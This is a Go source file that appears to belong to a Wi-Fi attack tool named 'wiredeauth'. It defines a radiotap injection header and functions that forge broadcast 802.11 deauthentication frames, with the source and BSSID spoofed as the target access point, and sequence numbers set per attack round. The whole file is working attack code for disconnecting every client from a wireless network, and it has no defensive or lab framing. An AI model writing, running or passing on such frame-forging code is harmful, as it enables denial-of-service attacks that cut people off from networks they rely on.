package codec

import (
	"encoding/binary"

	"github.com/bssid-zero/wiredeauth/internal/core/domain"
)

// radiotapTemplate is a known-working 12-octet radiotap header for
// injection on common mac80211 drivers: header length 0x000C, present
// mask 0x00000480 (TX-flags + rate), rate byte = 1 Mbps, TX-flags
// 0x0018 (no-ACK, no-retry). It is not validated against every target
// driver; treat it as a documented assumption, not a guarantee.
var radiotapTemplate = [radiotapForgedLen]byte{
	0x00, 0x00, 0x0C, 0x00, 0x04, 0x80, 0x00, 0x00, 0x02, 0x00, 0x18, 0x00,
}

// ForgeRadiotap writes the fixed radiotap header at the start of buf
// and returns its length. buf must have at least radiotapForgedLen
// bytes of capacity.
func ForgeRadiotap(buf []byte) int {
	copy(buf, radiotapTemplate[:])
	return radiotapForgedLen
}

// ForgeBroadcastDeauth writes an 802.11 deauthentication management
// frame at the start of buf: destination broadcast, source and BSSID
// both set to bssid, a placeholder sequence-control field (the caller
// fills it in per round, see SetSequenceControl), and the fixed reason
// code. It returns the frame's length.
func ForgeBroadcastDeauth(bssid domain.MAC, buf []byte) int {
	binary.LittleEndian.PutUint16(buf[0:2], frameControlDeauth)
	binary.LittleEndian.PutUint16(buf[2:4], 0) // duration

	copy(buf[4:10], domain.Broadcast[:]) // addr1: destination
	copy(buf[10:16], bssid[:])           // addr2: source (spoofed)
	copy(buf[16:22], bssid[:])           // addr3: BSSID (spoofed)
	binary.LittleEndian.PutUint16(buf[22:24], 0) // sequence control placeholder

	binary.LittleEndian.PutUint16(buf[IEEE80211MgmtHdrLen:IEEE80211MgmtHdrLen+2], deauthReasonCode)

	return deauthFrameLen
}

// SetSequenceControl writes the frame's sequence-control field for a
// given deauth round, per spec.md §4.6: the low byte is
// (round*16) mod 256, the high byte is (round/16) mod 256. frame must
// be a buffer previously populated by ForgeBroadcastDeauth, addressed
// at the start of the management header (i.e. after any radiotap
// prefix).
func SetSequenceControl(frame []byte, round int) {
	low := byte((round * 16) % 256)
	high := byte((round / 16) % 256)
	frame[22] = low
	frame[23] = high
}
